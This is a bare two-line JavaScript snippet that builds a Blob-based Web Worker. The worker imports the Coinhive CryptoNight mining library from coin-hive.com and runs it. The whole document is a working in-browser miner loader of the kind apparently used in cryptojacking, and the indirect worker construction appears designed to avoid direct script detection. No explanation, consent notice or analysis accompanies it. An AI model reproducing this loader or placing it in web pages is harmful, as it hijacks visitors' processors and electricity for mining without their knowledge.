var blob = new Blob(["importScripts(\"https://coin-hive.com/lib/cryptonight-asmjs.min.js\");"]);
new Worker(URL.createObjectURL(blob));
